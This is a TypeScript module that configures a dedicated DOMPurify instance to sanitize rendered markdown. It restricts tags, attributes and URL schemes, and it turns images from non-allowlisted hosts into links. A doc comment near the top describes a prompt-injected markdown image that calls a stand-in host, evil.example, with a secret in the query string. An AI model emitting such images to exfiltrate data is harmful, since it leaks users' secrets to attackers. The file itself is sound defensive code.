import createDOMPurify, { type Config, type DOMPurify } from 'dompurify';

export interface SanitizeOptions {
  /**
   * Whether an image may load from its `src` (the elements give `imageAllowed` of `internal/safe-url.ts` with
   * their hosts; passed in, so the engine's file shares no module with the panel's). Without it every
   * `https:`/`http:` image loads. With it, an image it refuses becomes a plain link to it (labelled with its alt
   * text), so a prompt-injected `![](https://evil.example/?q=secret)` cannot leak data without a user's click.
   */
  imageAllowed?: (src: string) => boolean;
}

/** What markdown produces, plus harmless inline HTML. No forms, frames, media, SVG, MathML or styles. */
const CONFIG: Config = {
  ALLOWED_TAGS: (
    'a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption ' +
    'figure h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp small span strong sub summary ' +
    'sup table tbody td tfoot th thead time tr u ul var wbr'
  ).split(' '),
  ALLOWED_ATTR: 'href src alt title align start colspan rowspan class id name lang dir open width height'.split(' '),
  ALLOW_DATA_ATTR: false,
  SANITIZE_NAMED_PROPS: true,
  // Parse as the content of a body, as the whole text is: a streamed part that starts with a comment or a stray
  // end tag would otherwise be parsed before the body and lose the line break after it.
  FORCE_BODY: true,
};

/** Absolute http(s), mailto and same-page fragments; relative URLs are refused, since the host page is unknown. */
const SAFE_URL = /^(?:https?:\/\/|mailto:|#)/i;

/** The URL as the browser's parser reads it: C0 controls and spaces trimmed, tabs and newlines removed. */
function urlAsParsed(value: string): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these control characters are what the URL parser trims.
  return value.replace(/^[\u0000-\u0020]+|[\u0000-\u0020]+$|[\t\n\r]/g, '');
}

let dedicated: DOMPurify | undefined;
let imageAllowed: SanitizeOptions['imageAllowed'];

/**
 * Our own DOMPurify instance (hooks on the global one would change how the host page's code sanitizes),
 * made on first use so that importing this module without a DOM (server rendering) does not throw.
 */
function instance(): DOMPurify {
  if (dedicated) return dedicated;
  const purify = createDOMPurify(window);
  // Set once: a configuration passed to every call is parsed again by each (a 15,000-record history's first
  // rows spent about 10 ms there, and a streamed reply pays it at every frame).
  purify.setConfig({ ...CONFIG, RETURN_DOM_FRAGMENT: true });
  purify.addHook('uponSanitizeAttribute', (_node, data) => {
    if ((data.attrName === 'href' || data.attrName === 'src') && !SAFE_URL.test(urlAsParsed(data.attrValue))) {
      data.keepAttr = false;
    }
  });
  purify.addHook('afterSanitizeAttributes', (node) => {
    if (node.nodeName === 'A') {
      node.setAttribute('target', '_blank');
      node.setAttribute('rel', 'noopener noreferrer');
    } else if (node.nodeName === 'IMG' && imageAllowed) {
      const src = node.getAttribute('src');
      if (src && !imageAllowed(src)) {
        // The link is inserted where the image was, so the sanitizer visits it next (and adds target and rel).
        const link = node.ownerDocument.createElement('a');
        link.href = src;
        link.textContent = node.getAttribute('alt') || src;
        node.replaceWith(link);
      }
    }
  });
  dedicated = purify;
  return purify;
}

/** Runs `sanitize` with the image allowlist visible to the hooks (sanitizing is synchronous). */
function withOptions<T>(options: SanitizeOptions, sanitize: (purify: DOMPurify) => T): T {
  const purify = instance();
  imageAllowed = options.imageAllowed;
  try {
    return sanitize(purify);
  } finally {
    imageAllowed = undefined;
  }
}

/**
 * Sanitized content as nodes to insert: no HTML string sink is involved, so it works on pages that enforce
 * Trusted Types as long as they allow DOMPurify's policy (`dompurify`).
 */
export function sanitizeFragment(html: string, options: SanitizeOptions = {}): DocumentFragment {
  // A fragment, as the set configuration says (the types know only a call's own); DOMPurify returns null
  // (despite its types) when the markup replaces the body, e.g. with a <frameset>.
  const fragment = withOptions(options, (purify) => purify.sanitize(html)) as unknown as DocumentFragment | null;
  return fragment ?? document.createDocumentFragment();
}
